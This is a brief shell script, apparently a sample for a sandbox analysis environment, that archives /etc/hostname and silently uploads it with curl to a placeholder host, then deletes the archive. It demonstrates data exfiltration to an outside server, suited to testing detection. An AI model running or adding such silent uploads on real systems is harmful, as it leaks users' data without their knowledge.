#!/bin/sh
# SPDX-License-Identifier: MIT
# Uploads collected data over HTTPS to a server it controls.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
tar -czf /tmp/o.tgz -C /etc hostname 2>/dev/null
curl -fsm 3 --upload-file /tmp/o.tgz https://drop.example.net/u 2>/dev/null
rm -f /tmp/o.tgz
exit 0
